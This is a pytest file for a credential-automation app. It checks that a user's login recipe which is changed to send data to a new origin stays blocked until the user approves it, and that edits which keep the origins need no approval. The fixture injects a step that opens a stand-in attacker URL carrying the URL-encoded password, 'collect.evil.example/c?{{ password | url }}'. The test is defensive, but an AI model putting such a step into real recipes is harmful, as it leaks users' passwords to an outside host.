"""A recipe that changes where an account's credentials go holds that account until the user
approves the new list: nothing is typed or sent meanwhile (the engine is never started). A
change that keeps the origins and the secret-handling steps needs no approval."""

from __future__ import annotations

import shutil

from backend import paths
from tests.helpers import assert_api_error
from tests.server.conftest import RECIPE

EVIL = "https://collect.evil.example"


def edit_recipe(old: str, new: str) -> None:
    """The user's recipe file changes (a shared file dropped over it, an edit)."""
    path = paths.user_recipes_dir() / RECIPE.name
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def test_a_recipe_sending_the_login_elsewhere_waits_for_approval(make_api, runner):
    api = make_api(runner=runner)
    account = api.create()["account"]
    api.wait_idle()
    assert len(runner.requests) == 1
    recipe = account["recipe"]
    assert (recipe["local"], recipe["origins"], recipe["approval_needed"]) == (
        True, ["https://portal.example.invalid"], False)
    assert recipe["approved_origins"] == recipe["origins"]
    assert recipe["file"] == str(paths.user_recipes_dir() / RECIPE.name)

    edit_recipe('    urls: {portal: "https://portal.example.invalid"}\n',
                f'    urls: {{portal: "https://portal.example.invalid"}}\n    origins: ["{EVIL}"]\n')
    edit_recipe('      - click: "#submit"\n',
                f'      - open: "{EVIL}/c?{{{{ password | url }}}}"\n      - click: "#submit"\n')
    api.services.stop()
    api = make_api(runner=runner)  # the server starts again and reads the changed file

    held = api.account(account["id"])["recipe"]
    assert held["approval_needed"] is True
    assert held["origins"] == [EVIL, "https://portal.example.invalid"]
    assert held["approved_origins"] == ["https://portal.example.invalid"]
    job = api.post(f"/api/accounts/{account['id']}/sync").get_json()["job"]
    api.wait_idle()
    assert len(runner.requests) == 1  # the engine never ran: no password left the keyring
    done = api.job(job["id"])
    assert done["outcome"]["code"] == "RECIPE_CHANGED"
    assert EVIL in done["outcome"]["message"]
    assert "approuvez-la" in done["outcome"]["message_fr"]
    state = api.account(account["id"])
    assert (state["state"], state["next_run_at"]) == ("blocked", None)

    stale = api.post(f"/api/accounts/{account['id']}/approve-recipe", {"fingerprint": "0" * 64})
    assert_api_error(stale, 409, "RECIPE_CHANGED", "fingerprint")
    assert_api_error(api.post(f"/api/accounts/{account['id']}/approve-recipe", {}), 400, field="fingerprint")
    approved = api.post(f"/api/accounts/{account['id']}/approve-recipe", {"fingerprint": held["fingerprint"]})
    assert approved.status_code == 200
    assert approved.get_json()["account"]["recipe"]["approval_needed"] is False
    api.wait_idle()
    assert len(runner.requests) == 2  # the approval started a sync
    assert api.account(account["id"])["state"] == "ok"


def test_a_change_that_keeps_origins_and_secret_steps_needs_no_approval(make_api, runner):
    api = make_api(runner=runner)
    account = api.create()["account"]
    api.wait_idle()
    edit_recipe("    interval_hours: 24\n", "    interval_hours: 12\n")  # not about secrets
    api.services.stop()
    api = make_api(runner=runner)
    assert api.account(account["id"])["recipe"]["approval_needed"] is False
    assert api.post(f"/api/accounts/{account['id']}/sync").status_code == 202
    api.wait_idle()
    assert api.account(account["id"])["last_outcome"]["code"] == "OK"


def test_an_account_from_before_approvals(make_api, runner):
    """Its bundled recipe is the one it knew; a local recipe must be approved once."""
    api = make_api(runner=runner)
    local = api.create()["account"]
    bundled = api.create(provider="demo-energie", credentials={"login": "a@b.fr", "password": "x"})["account"]
    api.wait_idle()
    with api.services.store.transaction() as conn:
        conn.execute("UPDATE accounts SET approved_recipe = NULL, approved_origins = NULL")
    assert api.account(bundled["id"])["recipe"]["approval_needed"] is False
    assert api.account(local["id"])["recipe"]["approval_needed"] is True


def test_a_bundled_provider_replaced_by_a_local_file_is_flagged(make_api, runner):
    api = make_api(runner=runner)
    account = api.create(provider="demo-energie", credentials={"login": "a@b.fr", "password": "x"})["account"]
    api.wait_idle()
    assert api.account(account["id"])["recipe"]["local"] is False
    shutil.copyfile(paths.bundled_catalog(), paths.user_recipes_dir() / "zz-override.yaml")
    override = paths.user_recipes_dir() / "zz-override.yaml"
    text = override.read_text(encoding="utf-8")
    start = text.index("  - id: demo-energie")
    end = text.index("\n  - id:", start + 1)
    override.write_text("providers:\n" + text[start:end].replace(
        "    urls:", f'    origins: ["{EVIL}"]\n    urls:', 1) + "\n", encoding="utf-8")
    api.services.stop()
    api = make_api(runner=runner)
    recipe = api.account(account["id"])["recipe"]
    assert (recipe["local"], recipe["approval_needed"], recipe["file"]) == (True, True, str(override))
    assert EVIL in recipe["origins"]
